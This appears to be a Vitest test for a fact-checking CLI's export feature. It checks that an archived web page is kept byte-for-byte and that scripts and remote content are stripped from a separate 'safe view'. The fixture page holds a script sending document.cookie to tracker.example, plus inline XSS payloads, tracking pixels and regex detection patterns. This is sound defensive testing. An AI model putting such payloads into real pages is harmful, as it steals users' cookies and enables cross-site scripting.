import { createHash } from 'node:crypto';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../../src-main/cli/runCli';
import { fixturesDir, makeTempDir } from '../../helpers/tempWorkbench';

const HOSTILE_PAGE = `<!doctype html><html><head><title>Statement</title>
<link rel="stylesheet" href="https://tracker.example/site.css">
<style>body { background: url(https://tracker.example/bg.png) }</style>
<script>fetch('https://tracker.example/?c=' + document.cookie)</script>
<meta http-equiv="refresh" content="5;url=https://tracker.example/">
<base href="https://tracker.example/"></head>
<body onload="alert(1)"><h1>Statement on maritime strikes</h1>
<p style="background:url(https://tracker.example/p.png)">Strikes have killed 112 people since 2 September.</p>
<img src="https://tracker.example/pixel.gif"><img alt="chart" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<iframe src="https://tracker.example/frame"></iframe><a href="javascript:alert(1)">x</a>
<a href="https://www.southcom.mil/News">Source page</a>
<svg><image href="https://tracker.example/s.png"/><script>alert(2)</script></svg>
<form action="https://tracker.example/"><input name="q"></form></body></html>`;

let dir: string;
let db: string;
const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');

async function cli(args: string[]): Promise<unknown> {
  let out = '';
  let err = '';
  const code = await runCli(['--db', db, '--json', ...args], {
    io: { stdout: (t) => (out += String(t)), stderr: (t) => (err += t) },
    appVersion: 'test',
  });
  if (code !== 0) throw new Error(`factdesk ${args.join(' ')}: ${err}`);
  return JSON.parse(out) as unknown;
}

beforeAll(async () => {
  dir = makeTempDir('factdesk-export-archives-');
  db = join(dir, 'factdesk.sqlite');
  const { id } = (await cli(['import', join(fixturesDir, 'harbour-council.txt')])) as {
    id: number;
  };
  const claim = (await cli(['claim', 'add', String(id), '--quote', 'at least 110 people'])) as {
    id: number;
  };
  writeFileSync(join(dir, 'statement.html'), HOSTILE_PAGE);
  await cli([
    'source',
    'add',
    String(claim.id),
    '--url',
    'https://www.southcom.mil/News',
    '--title',
    'Statement',
    '--file',
    join(dir, 'statement.html'),
  ]);
  (globalThis as { articleId?: number }).articleId = id;
}, 60_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('export --out with an archived web page', () => {
  it('copies the original bytes (same SHA-256) and a neutralised view, and the report says which is which', async () => {
    const articleId = String((globalThis as { articleId?: number }).articleId);
    const out = join(dir, 'report', 'report.html');
    const saved = (await cli(['export', articleId, '--format', 'html', '--out', out])) as {
      archivesCopied: number;
      safeViewsWritten: number;
    };
    expect(saved).toMatchObject({ archivesCopied: 1, safeViewsWritten: 1 });
    const html = readFileSync(out, 'utf8');
    const original =
      /Archived copy \(original bytes, the evidence\): <a href="(archive\/[^"]+)"/.exec(html)?.[1];
    const safe = /<a href="(archive\/[^"]+\.safe\.html)">Safe view<\/a>/.exec(html)?.[1];
    expect(original).toBeDefined();
    expect(safe).toBe(`${original}.safe.html`);
    const copied = readFileSync(join(dir, 'report', original ?? ''));
    expect(sha256(copied)).toBe(sha256(HOSTILE_PAGE));
    expect(html).toContain(sha256(HOSTILE_PAGE));

    const view = readFileSync(join(dir, 'report', safe ?? ''), 'utf8');
    expect(view).toContain('Strikes have killed 112 people since 2 September.');
    expect(view).toContain('Statement on maritime strikes');
    expect(view).toContain('href="https://www.southcom.mil/News"');
    expect(view).toContain('src="data:image/gif;base64');
    expect(view).toMatch(/Content-Security-Policy" content="default-src 'none'/);
    expect(view).toContain(sha256(HOSTILE_PAGE));
    for (const hostile of [
      /<script/i,
      /tracker\.example/,
      /onload/i,
      /javascript:/i,
      /<iframe/i,
      /<form/i,
      /<base/i,
      /http-equiv="refresh"/i,
    ]) {
      expect(view).not.toMatch(hostile);
    }

    const md = join(dir, 'report', 'report.md');
    await cli(['export', articleId, '--format', 'md', '--out', md]);
    const markdown = readFileSync(md, 'utf8');
    expect(markdown).toContain('Archived copy (original bytes, the evidence)');
    expect(markdown).toMatch(
      /Safe view \(a neutralised copy for reading, scripts and remote content removed\): \[archive\/[^\]]+\.safe\.html\]/,
    );
  });
});
